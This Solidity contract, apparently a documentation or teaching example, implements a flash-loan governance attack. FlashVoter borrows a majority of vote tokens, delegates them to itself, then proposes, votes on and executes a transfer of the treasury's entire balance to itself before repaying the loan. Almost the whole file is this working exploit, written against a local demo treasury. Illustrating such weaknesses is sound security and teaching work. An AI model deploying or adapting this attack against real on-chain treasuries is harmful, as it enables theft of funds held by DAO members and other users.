// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {FlashLender, IBorrower, VoteCoin} from "./Coin.sol";

interface ITreasury {
    function propose(address payable to, uint256 amount) external returns (uint256 id);
    function vote(uint256 id) external;
    function execute(uint256 id) external;
}

// #region contract
/// Borrows a majority, pays itself the treasury, and returns the votes.
contract FlashVoter is IBorrower {
    VoteCoin private immutable coin;
    FlashLender private immutable lender;
    ITreasury private immutable treasury;

    constructor(VoteCoin votes, FlashLender source, ITreasury target) {
        (coin, lender, treasury) = (votes, source, target);
    }

    function attack() external {
        lender.lend(coin);
    }

    function onLoan(uint256 amount) external {
        coin.delegate(address(this));
        uint256 id = treasury.propose(payable(address(this)), address(treasury).balance);
        treasury.vote(id);
        treasury.execute(id);
        coin.transfer(address(lender), amount + 1);
    }

    receive() external payable {}
}
// #endregion contract
